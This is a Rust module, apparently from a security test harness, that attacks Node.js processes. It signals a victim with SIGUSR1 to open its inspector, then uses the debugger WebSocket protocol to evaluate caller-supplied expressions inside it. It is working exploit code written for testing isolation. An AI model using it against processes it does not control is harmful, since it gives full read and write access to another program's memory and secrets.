//! Attacks through the inspector of a Node process: who can connect to it can read and change everything in
//! the process.

use std::{
    io::{self, Read as _, Write as _},
    net::TcpStream,
    time::Duration,
};

use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};

use super::{attackers::until, number};

/// Makes a Node process open its inspector, and waits until it is open. Every process that may send it
/// signals can do so.
pub(super) fn open(victim: &str, port: &str) -> Result<(), String> {
    signal(victim)?;
    let port = number(port)?;
    until("the inspector is open", || connect(port).is_ok())?;
    println!("open");
    Ok(())
}

/// Sends only the signal.
pub(super) fn signal(victim: &str) -> Result<(), String> {
    kill(Pid::from_raw(number(victim)?), Signal::SIGUSR1).map_err(|errno| format!("SIGUSR1: {errno}"))?;
    println!("signalled");
    Ok(())
}

/// Reads a global variable of the process whose inspector listens on a port.
pub(super) fn read(port: &str, variable: &str) -> Result<(), String> {
    let port = number(port)?;
    match evaluate(port, variable) {
        Ok(answer) => println!("read {answer}"),
        Err(error) => println!("{:?}", error.kind()),
    }
    Ok(())
}

fn connect(port: u16) -> io::Result<TcpStream> {
    let stream = TcpStream::connect(("127.0.0.1", port))?;
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    Ok(stream)
}

/// Reads until the text has arrived.
fn read_until(stream: &mut TcpStream, wanted: &str) -> io::Result<String> {
    let mut bytes = Vec::new();
    let mut chunk = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if text.contains(wanted) {
            return Ok(text);
        }
        let count = stream.read(&mut chunk)?;
        if count == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        bytes.extend_from_slice(&chunk[..count]);
    }
}

/// Evaluates a variable over the inspector's protocol: JSON in WebSocket frames (RFC 6455).
fn evaluate(port: u16, variable: &str) -> io::Result<String> {
    let mut stream = connect(port)?;
    write!(
        stream,
        "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"
    )?;
    let place = format!("ws://127.0.0.1:{port}/");
    let mut list = read_until(&mut stream, "webSocketDebuggerUrl")?;
    if !list.trim_end().ends_with(']') {
        list += &read_until(&mut stream, "]")?;
    }
    let path = list
        .rsplit(&place)
        .next()
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_default()
        .to_owned();

    let mut stream = connect(port)?;
    write!(
        stream,
        "GET /{path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )?;
    read_until(&mut stream, "\r\n\r\n")?;
    let order = format!(r#"{{"id":1,"method":"Runtime.evaluate","params":{{"expression":"{variable}"}}}}"#);
    let length = u8::try_from(order.len()).map_err(io::Error::other)?;
    assert!(length < 126, "a short frame");
    // A complete text frame, masked (with zeros) as a client's frames must be.
    stream.write_all(&[0x81, 0x80 | length, 0, 0, 0, 0])?;
    stream.write_all(order.as_bytes())?;
    let answer = read_until(&mut stream, "}}}")?;
    let value = answer
        .split("\"value\":\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next());
    Ok(value.unwrap_or("nothing").to_owned())
}
